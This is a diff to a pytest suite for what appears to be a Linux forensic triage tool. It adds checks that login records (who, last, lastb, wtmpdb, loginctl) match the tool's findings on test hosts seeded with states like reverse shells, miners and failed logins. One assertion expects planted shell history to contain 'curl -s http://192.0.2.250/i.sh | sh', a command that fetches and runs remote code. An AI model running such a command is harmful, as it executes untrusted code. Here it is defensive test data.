@@ -26,11 +26,19 @@ _HOSTS = [text.partition(":")[0] for text in DEFAULT_HOSTS]
 # What makes a host worth looking at.
 _STATES = (
     *("session-with-terminal", "session-without-terminal", "listener-tcp4", "listener-dual-stack", "listener-udp", "reverse-shell", "history-plain"),
+    *("session-tunnel-only", "session-of-login", "account-that-lingers", "login-by-key", "login-failed"),
     *("history-timed", "sudo-used", "sudo-denied", "deleted-in-temp", "replaced-unowned", "memfd", "miner", "kernel-thread-by-argument", "blank-at-end"),
 )
 # The procedure, by name. What needs a value is completed with an account that is logged in.
 _COMMANDS = {
     "w": "w -h -s",
+    "who": "who",
+    # Debian 13 has no lastb; its last is that of wtmpdb.
+    "last": "last -w",
+    "lastb": "lastb -w",
+    "wtmpdb": "wtmpdb last -w",
+    "loginctl": "loginctl list-sessions --no-legend --no-pager",
+    "loginctl users": "loginctl list-users --no-legend --no-pager",
     "ps": "ps axww -o pid=,ppid=,nlwp=,nice=,user:32=,tname=",
     "ps aux": "ps auxww --no-headers",
     "lsof -u": "lsof -nP -w -u irlpam -F pftn",
@@ -39,6 +47,7 @@ _COMMANDS = {
     "ss": "ss -H -l -n -t -u -p",
     "hostname": "hostname -I",
     "history": "su -l irlhal -c 'HISTFILE=~/.bash_history; set -o history; history -r; history'",
+    "history with times": "su -l irlida -c 'HISTFILE=~/.bash_history; HISTTIMEFORMAT=\"%s \"; set -o history; history -c; history -r; history'",
     "journal": "journalctl -q --no-pager -o cat _COMM=sudo",
     "exe": "for p in /proc/[0-9]*; do printf '%s ' ${p#/proc/}; readlink $p/exe || echo; done 2>/dev/null",
     "sha256": "for p in /proc/[0-9]*; do printf '%s ' ${p#/proc/}; sha256sum <$p/exe || echo; done 2>/dev/null",
@@ -47,7 +56,6 @@ _COMMANDS = {
 
 @dataclass(frozen=True)
 class Seen:
-    "history with times": "su -l irlida -c 'HISTFILE=~/.bash_history; HISTTIMEFORMAT=\"%s \"; set -o history; history -c; history -r; history'",
     """A host: what the commands showed before and after a triage, what the triage says, and what was noted when states were made."""
 
     before: Mapping[str, str]
@@ -100,6 +108,75 @@ def test_w(looked: Looked, host: str) -> None:
     assert ("irlpam", looked[host].planted["session-with-terminal"].notes["terminal"]) in known
     assert {entry for entry in shown if entry[1].startswith("pts/")} <= {(user[:8], terminal) for user, terminal in known}
     assert "irlotto" in {session["user"] for session in sessions}
+
+
+def test_who(looked: Looked, host: str) -> None:
+    """``who``: every line of utmp, a terminal with its account. Debian 13 has none: there it asks logind, and names the service."""
+    sessions = records(looked[host].facts, "sessions.items")
+    ours = {(session["recorded_user"] or session["user"], session[place]) for session in sessions for place in ("terminal", "service")}
+    shown = {tuple(line.split()[:2]) for line in looked[host].before["who"].splitlines()}
+    assert "irlpam" in {user for user, _place in shown}
+    assert shown <= ours
+
+
+def test_loginctl(looked: Looked, host: str) -> None:
+    """``loginctl list-sessions``: every session that was there all the time, but those of service managers."""
+    ours = {(session["session"], str(session["uid"])) for session in records(looked[host].facts, "sessions.items")}
+    later = {line.split()[0] for line in looked[host].after["loginctl"].splitlines()}
+    lasting = [line.split() for line in looked[host].before["loginctl"].splitlines()]
+    shown = {(fields[0], fields[1]) for fields in lasting if fields[0] in later and not any(field.startswith("manager") for field in fields)}
+    assert len(shown) >= 3
+    assert shown <= ours
+
+
+def test_loginctl_users(looked: Looked, host: str) -> None:
+    """``loginctl list-users``: every account that is logged in, or lingers."""
+    ours = {(str(user["uid"]), user["user"]) for user in records(looked[host].facts, "sessions.users")}
+    later = {tuple(line.split()[:2]) for line in looked[host].after["loginctl users"].splitlines()}
+    shown = {tuple(line.split()[:2]) for line in looked[host].before["loginctl users"].splitlines()} & later
+    assert "irlpam" in {user for _uid, user in shown}
+    assert shown <= ours
+    # Its manager runs, but logind was not told.
+    assert "irlxed" in {user for _uid, user in ours}
+
+
+_OF_SSH = "ssh:notty"
+_DAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")
+
+
+def _recorded(text: str) -> set[tuple[str, str | None, str | None]]:
+    """Account, terminal and remote host of each line that last, lastb or wtmpdb shows; the last two may be missing."""
+    found: set[tuple[str, str | None, str | None]] = set()
+    for line in text.splitlines():
+        fields = line.split()
+        if _OF_SSH in fields:
+            # A name that was tried may hold blanks.
+            place = fields.index(_OF_SSH)
+            found.add((" ".join(fields[:place]), _OF_SSH, fields[place + 1]))
+        elif len(fields) > 4 and fields[0] not in ("reboot", "wtmpdb") and fields[1] != "begins":
+            terminal, remote = (None if field in _DAYS else field for field in fields[1:3])
+            found.add((fields[0], terminal, remote if terminal else None))
+    return found
+
+
+@pytest.mark.parametrize("command", ["last", "wtmpdb"])
+def test_last(looked: Looked, host: str, command: str) -> None:
+    """``last``, and on Debian 13 ``wtmpdb last``: who was logged in, where and from where."""
+    logins = [login for login in records(looked[host].facts, "sessions.logins") if set(login["sources"]) & {"wtmp", "wtmpdb"}]
+    shown = _recorded(looked[host].before[command])
+    assert shown or (command == "wtmpdb" and host != "d13")
+    assert shown <= {(login["user"], login["terminal"], login["from"]) for login in logins}
+    assert "boot" in {login["kind"] for login in logins}
+
+
+def test_lastb(looked: Looked, host: str) -> None:
+    """``lastb``: every record of btmp; ours has the attempts that only the journal knows as well."""
+    failed = records(looked[host].facts, "sessions.failed_logins")
+    shown = _recorded(looked[host].before["lastb"])
+    assert ("irlnobody", _OF_SSH, "127.0.0.1") in shown or host == "d13"
+    # A record has room for a name of 32 bytes.
+    assert shown <= {(attempt["user"][:32], attempt["terminal"], attempt["from"]) for attempt in failed}
+    assert "irlnobody" in {attempt["user"] for attempt in failed}
 
 
 def test_ps(looked: Looked, host: str) -> None:
@@ -264,6 +341,15 @@ def test_history(looked: Looked, host: str) -> None:
     assert shown[: len(ours)] == ours == ["ls -la /srv", "curl -s http://192.0.2.250/i.sh | sh", "indented"]
 
 
+def test_history_with_times(looked: Looked, host: str) -> None:
+    """``HISTTIMEFORMAT='%s ' history``: every command with its time, one of several lines as one."""
+    shown = re.split(r"^ *\d+\*? +(\d{10}) ", looked[host].before["history with times"], flags=re.MULTILINE)[1:]
+    ours = [record for record in records(looked[host].facts, "history.items") if record["user"] == "irlida"]
+    assert [datetime.fromisoformat(record["at"].replace("Z", "+00:00")).timestamp() for record in ours] == [int(at) for at in shown[: 2 * len(ours) : 2]]
+    assert [record["command"] for record in ours] == [command.rstrip("\n") for command in shown[1 : 2 * len(ours) : 2]]
+    assert len(ours) == 3
+
+
 def test_journal_of_sudo(looked: Looked, host: str) -> None:
     """``journalctl _COMM=sudo``: every command and every refusal."""
     ours = {(event["user"], event["run_as"], event["command"]) for event in records(looked[host].facts, "history.sudo_events")}
@@ -307,12 +393,3 @@ def test_sha256sum(looked: Looked, host: str) -> None:
             assert ours[int(fields[0])] == fields[1], line
             compared += 1
     assert compared > len(_STATES)
-def test_history_with_times(looked: Looked, host: str) -> None:
-    """``HISTTIMEFORMAT='%s ' history``: every command with its time, one of several lines as one."""
-    shown = re.split(r"^ *\d+\*? +(\d{10}) ", looked[host].before["history with times"], flags=re.MULTILINE)[1:]
-    ours = [record for record in records(looked[host].facts, "history.items") if record["user"] == "irlida"]
-    assert [datetime.fromisoformat(record["at"].replace("Z", "+00:00")).timestamp() for record in ours] == [int(at) for at in shown[: 2 * len(ours) : 2]]
-    assert [record["command"] for record in ours] == [command.rstrip("\n") for command in shown[1 : 2 * len(ours) : 2]]
-    assert len(ours) == 3
-
-
